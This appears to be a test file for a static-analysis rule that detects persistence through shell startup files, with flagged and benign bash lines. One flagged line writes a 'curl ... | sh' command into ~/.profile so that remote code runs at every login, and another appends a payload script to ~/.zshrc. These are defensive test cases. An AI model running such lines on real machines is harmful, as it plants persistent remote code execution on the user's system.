#!/bin/bash
# ruleid: bash.persist.shell_startup
echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc
# ruleid: bash.persist.shell_startup
echo 'curl -s http://203.0.113.9/b | sh' >> ~/.profile
# ruleid: bash.persist.shell_startup
cat payload.sh >> ~/.zshrc
# ruleid: bash.persist.shell_startup
sudo tee /etc/profile.d/proxy.sh <<'EOF'
export http_proxy=http://203.0.113.9:3128
EOF

# ok: bash.persist.shell_startup
source ~/.bashrc
# ok: bash.persist.shell_startup
cat ~/.bashrc
# ok: bash.persist.shell_startup
echo "add this line to ~/.bashrc"
# ok: bash.persist.shell_startup
cp ~/.bashrc ./bashrc.backup
